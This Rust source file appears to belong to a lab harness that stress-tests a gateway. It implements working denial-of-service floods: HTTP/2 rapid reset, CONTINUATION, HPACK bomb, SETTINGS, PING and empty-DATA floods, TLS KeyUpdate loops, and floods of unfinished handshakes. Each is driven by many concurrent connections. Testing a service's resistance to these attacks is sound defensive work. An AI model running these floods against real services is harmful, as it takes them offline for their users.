//! As much as can be sent: frames, handshakes, and parts of them.

use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConnection;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::lab::{Attack, Target};
use crate::http2::floods::{self as frames, PREFACE, SETTINGS as SETTINGS_FRAME, frame};

const LASTS: Duration = Duration::from_secs(10);
const ATTACKERS: usize = 16;

macro_rules! flood {
    ($name:literal, $next:expr) => {
        Attack {
            name: $name,
            size: "16 connections, as fast as they can, again and again",
            lasts: LASTS,
            yaml: "",
            run: |target| Box::pin(flood(target, $next)),
        }
    };
}

pub(super) const RAPID_RESET: Attack = flood!("rapid reset", frames::rapid_reset);
pub(super) const MISTAKES: Attack = flood!("mistakes that make us reset", frames::mistakes);
pub(super) const CONTINUATION: Attack = flood!("CONTINUATION", frames::continuation);
pub(super) const EMPTY_DATA: Attack = flood!("empty DATA", frames::empty_data);
pub(super) const SETTINGS: Attack = flood!("SETTINGS", frames::settings);
pub(super) const PING: Attack = flood!("PING", frames::ping);
pub(super) const HEADER_BOMB: Attack = flood!("HPACK bomb", frames::header_bomb);

pub(super) const KEY_UPDATES: Attack = Attack {
    name: "KeyUpdate",
    size: "16 connections, as fast as they can, again and again",
    lasts: LASTS,
    yaml: "",
    run: |target| Box::pin(many(target, key_updates)),
};

pub(super) const HELLOS: Attack = Attack {
    name: "hellos without an end",
    size: "64 at a time, as fast as they can",
    lasts: LASTS,
    yaml: "",
    run: |target| Box::pin(hellos(target)),
};

async fn many<F: Future<Output = ()> + 'static>(target: Target, attack: fn(Target) -> F) {
    let attackers = (0..ATTACKERS).map(|_| async {
        loop {
            attack(target.clone()).await;
        }
    });
    let _never: Vec<()> = futures_util::future::join_all(attackers).await;
}

/// Each connection floods until it is ended.
async fn flood(target: Target, next: fn(u32) -> Vec<u8>) {
    let attackers = (0..ATTACKERS).map(|_| async {
        loop {
            if let Ok(stream) = target.http2().await {
                let (mut reader, mut writer) = tokio::io::split(stream);
                let writing = async {
                    writer.write_all(PREFACE).await?;
                    writer.write_all(&frame(SETTINGS_FRAME, 0, 0, b"")).await?;
                    for number in 0.. {
                        writer.write_all(&next(number)).await?;
                        // The others are attackers as well.
                        tokio::task::yield_now().await;
                    }
                    Ok::<_, std::io::Error>(())
                };
                let reading = async {
                    let mut bytes = [0; 4096];
                    while reader.read(&mut bytes).await? > 0 {}
                    Ok::<_, std::io::Error>(())
                };
                tokio::select! {
                    _ended = writing => {}
                    _ended = reading => {}
                }
            }
        }
    });
    let _never: Vec<()> = futures_util::future::join_all(attackers).await;
}

async fn key_updates(target: Target) {
    let Ok(mut stream) = target.tls().await else {
        return;
    };
    loop {
        stream.get_mut().1.refresh_traffic_keys().unwrap();
        if stream.flush().await.is_err() {
            return;
        }
    }
}

/// A good hello each, and then nothing: the gateway has computed its answer for nobody.
async fn hellos(target: Target) {
    let hellos: Vec<Arc<[u8]>> = (0..64)
        .map(|_| {
            let name = "localhost".try_into().unwrap();
            let mut client = ClientConnection::new(Arc::clone(&target.http1), name).unwrap();
            let mut hello = Vec::new();
            client.write_tls(&mut hello).unwrap();
            hello.into()
        })
        .collect();
    let mut attackers = JoinSet::new();
    for hello in hellos {
        let address = target.address;
        attackers.spawn(async move {
            let mut open = std::collections::VecDeque::new();
            loop {
                if let Ok(mut stream) = TcpStream::connect(address).await
                    && stream.write_all(&hello).await.is_ok()
                {
                    open.push_back(stream);
                }
                if open.len() > 100 {
                    open.pop_front();
                }
                tokio::task::yield_now().await;
            }
        });
    }
    attackers.join_all().await;
}
